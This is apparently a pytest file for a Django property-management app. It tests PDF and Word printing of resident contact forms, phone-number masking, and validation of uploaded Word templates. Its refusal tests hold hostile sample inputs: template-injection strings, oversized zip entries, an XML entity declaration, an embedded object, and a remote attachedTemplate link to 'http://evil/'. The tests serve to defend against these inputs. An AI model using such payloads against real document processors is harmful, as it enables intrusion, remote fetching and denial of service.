"""Forms as PDF and as Word: what a manager would sign, and a company's own file."""

from __future__ import annotations

import io
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document

from shouwen.accounts.models import Disclosure
from shouwen.adoption.library import load_all
from shouwen.cases.files import keep
from shouwen.papers.models import Print
from shouwen.papers.shapes import Head
from shouwen.papers.sheet import render
from shouwen.registers.actions import templating
from shouwen.registers.actions.printing import print_record, write_record
from shouwen.registers.models import FormTemplate, Record
from shouwen.registers.paper import blank_source
from shouwen.registers.queries import form_in_force, template_of
from shouwen.registers.starter import starter
from shouwen.registers.word import fill, require_usable
from shouwen.registers.word_values import names_of, sample_of
from shouwen.rules.form_kinds import Form
from shouwen.rules.refused import Refused
from tests.papers.paper import pages, text
from tests.registers.conftest import LATER, NOW, Clerk

FILLED = [rule for one in load_all() for rule in one.form if rule.fields]


def words_of(word: bytes) -> str:
    """Everything that a Word file says, in the body, in tables and in the foot."""
    document = Document(io.BytesIO(word))
    parts: list[Any] = [document, *(section.footer for section in document.sections)]
    lines = [line.text for part in parts for line in part.paragraphs]
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*lines, *cells])


def contact_rule(clerk: Clerk) -> Form:
    return form_in_force(clerk.cast.cuihu, "contact-sheet", NOW).rule


def word(*lines: str) -> bytes:
    """A Word file with these paragraphs."""
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    written = io.BytesIO()
    document.save(written)
    return written.getvalue()


# --- PDF ------------------------------------------------------------------------------------------


def test_a_record_is_printed_with_its_head_its_words_and_who_signed_when(clerk: Clerk) -> None:
    record = clerk.signed_contact()
    by = clerk.of(clerk.cast.limin, LATER)
    pdf = print_record(record=record, address="http://x/", by=by, at=LATER)
    (page,) = pages(pdf)
    for words in (
        "业主/住户联络资料登记表", "锦绣物业", "翠湖花园", f"No.{record.number}", "王女士",
        "3幢2单元501室", "王奶奶", "业主签名", "2026-11-24", "第1页", "共1页",
        "第十二条（七）1",
    ):  # fmt: skip
        assert words in page, words
    assert Print.objects.get().record == record.number


def test_a_whole_number_on_paper_counts_as_looked_up_and_is_masked_for_who_may_not(
    clerk: Clerk,
) -> None:
    record = clerk.signed_contact()
    seen = print_record(record=record, address="", by=clerk.of(clerk.cast.limin), at=LATER)
    assert "13900000421" in text(seen)
    assert Disclosure.objects.filter(record="record", staff=clerk.cast.limin).count() == 1
    leader = clerk.of(clerk.cast.zhaogang)
    masked = text(print_record(record=record, address="", by=leader, at=LATER))
    assert "13900000421" not in masked
    assert "139****0421" in masked


def test_each_copy_is_a_page_of_its_own_under_its_name(clerk: Clerk) -> None:
    record = clerk.begins("fire-agreement", on="2026-11-24", unit="3-2-501", owner="王女士",
                          terms="不得堵塞消防通道")  # fmt: skip
    pdf = print_record(record=record, address="", by=clerk.of(clerk.cast.limin), at=LATER)
    first, second = pages(pdf)
    assert "业主联" in first
    assert "存档联" in second


def test_what_is_void_says_so_on_paper(clerk: Clerk) -> None:
    record = clerk.signed_contact()
    Record.objects.filter(pk=record.pk).update(state="void")
    record.refresh_from_db()
    by = clerk.of(clerk.cast.limin)
    assert "作废" in text(print_record(record=record, address="", by=by, at=LATER))


@pytest.mark.parametrize("rule", FILLED, ids=lambda rule: rule.id)
def test_every_form_prints_empty_with_its_number_and_its_places_to_sign(
    rule: Form, clerk: Clerk
) -> None:
    head = Head(
        company="锦绣物业", project="翠湖花园", title=rule.title, record="", form=rule.number,
        copies=rule.copy_names or ("",), signatures=rule.signatures, address="x",
    )  # fmt: skip
    printed = pages(render(blank_source(clerk.cast.cuihu, rule).fill(head)))
    assert len(printed) >= rule.copies
    for words in (rule.title, rule.number, *rule.signatures, *(f.title for f in rule.fields)):
        assert "".join(words.split()) in printed[0] + printed[-1], words


# --- Word -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("rule", FILLED, ids=lambda rule: rule.id)
def test_every_form_makes_a_word_file_that_can_be_filled(rule: Form) -> None:
    made = starter(rule)
    require_usable(made, names_of(rule))
    said = words_of(fill(made, names_of(rule), sample_of(rule)))
    assert rule.title in said
    assert "{{" not in said
    assert "{%" not in said


def test_a_record_in_word_says_what_the_record_says(clerk: Clerk) -> None:
    record = clerk.signed_contact(name="王女士 <b>&", language="{{ 编号 }}")
    said = words_of(write_record(record=record, by=clerk.of(clerk.cast.limin), at=LATER))
    for words in (record.number, "王女士 <b>&", "3幢2单元501室", "王奶奶", "业主", "13900000421"):
        assert words in said, words
    assert "{{ 编号 }}" in said, "what was typed is text and never read as a placeholder"


def test_a_companys_own_word_file_is_used_once_it_was_put_in_force(clerk: Clerk) -> None:
    record = clerk.signed_contact()
    by = clerk.of(clerk.cast.zhoumin)
    own = word(
        "翠湖专用表", "{{ 姓名 }} {{ unit }}", "{% if language %}语言 {{ language }}{% endif %}"
    )
    kept = keep(SimpleUploadedFile("翠湖.docx", own))
    rule = contact_rule(clerk)
    template = templating.offer(unit=clerk.cast.cuihu, rule=rule, kept=kept, by=by, at=NOW)
    assert "翠湖专用表" not in words_of(write_record(record=record, by=by, at=LATER))
    templating.put_in_force(template=template, by=by, at=NOW)
    said = words_of(write_record(record=record, by=by, at=LATER))
    assert "翠湖专用表" in said
    assert "王女士 3幢2单元501室" in said
    templating.put_away(template=template, by=by, at=LATER)
    assert template_of(clerk.cast.cuihu, "contact-sheet") is None


def test_the_file_of_the_project_goes_before_that_of_its_company(clerk: Clerk) -> None:
    rule, at = contact_rule(clerk), NOW
    for unit, who in ((clerk.cast.cuihu, clerk.cast.zhoumin), (clerk.cast.group, clerk.cast.admin)):
        kept = keep(SimpleUploadedFile("a.docx", word(unit.name)))
        by = clerk.of(who)
        made = templating.offer(unit=unit, rule=rule, kept=kept, by=by, at=at)
        templating.put_in_force(template=made, by=by, at=at)
    found = template_of(clerk.cast.cuihu, "contact-sheet")
    assert found is not None
    assert found.unit == clerk.cast.cuihu
    assert template_of(clerk.cast.jingui, "contact-sheet") == FormTemplate.objects.get(
        unit=clerk.cast.group
    )


def test_a_second_file_replaces_the_first_and_none_is_changed(clerk: Clerk) -> None:
    rule, by = contact_rule(clerk), clerk.of(clerk.cast.zhoumin)
    first, second = (
        templating.offer(
            unit=clerk.cast.cuihu, rule=rule, by=by, at=NOW,
            kept=keep(SimpleUploadedFile("a.docx", word(name))),
        )
        for name in ("甲", "乙")
    )  # fmt: skip
    templating.put_in_force(template=first, by=by, at=NOW)
    templating.put_in_force(template=second, by=by, at=LATER)
    first.refresh_from_db()
    assert (first.since, first.until) == (NOW, LATER)
    assert template_of(clerk.cast.cuihu, "contact-sheet") == second


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("{{ 工资 }}", "工资"),
        ("{% for 行 in 家庭成员 %}{{ 行.工资 }}{% endfor %}", "行.工资"),
        ("{{ 姓名.__class__ }}", "只能写"),
        ("{{ range(1000000) }}", "只能写"),
        ("{{ 姓名|upper }}", "只能写"),
        ("{% set x = 1 %}", "只能写"),
        ("{% for a in 家庭成员 %}" * 3 + "{% endfor %}" * 3, "太深"),
        ("{{ 姓名", "占位符"),
    ],
)  # fmt: skip
def test_a_file_that_asks_for_more_than_the_form_has_is_refused_by_name(
    clerk: Clerk, line: str, named: str
) -> None:
    with pytest.raises(Refused) as refused:
        require_usable(word(line), names_of(contact_rule(clerk)))
    assert named in refused.value.sentence
    assert refused.value.field == "file"


def _with(word: bytes, name: str, content: bytes) -> bytes:
    written = io.BytesIO(word)
    with ZipFile(written, "a", ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return written.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/bomb.xml", b"0" * (4 * 1024 * 1024)),
        ("word/media/bomb.png", b"0" * (40 * 1024 * 1024)),
        ("word/entity.xml", b"<!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"),
        ("word/embeddings/object.bin", b"x"),
        ("word/_rels/settings.xml.rels",
         b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil/"'
         b' TargetMode="External"/></Relationships>'),
    ],
)  # fmt: skip
def test_a_file_that_would_fill_the_memory_or_fetch_from_elsewhere_is_refused(
    clerk: Clerk, name: str, content: bytes
) -> None:
    with pytest.raises(Refused):
        require_usable(_with(word("甲"), name, content), names_of(contact_rule(clerk)))


def test_what_is_no_word_file_is_refused_in_words(clerk: Clerk) -> None:
    with pytest.raises(Refused) as refused:
        require_usable(b"PK no zip", names_of(contact_rule(clerk)))
    assert "打不开" in refused.value.sentence
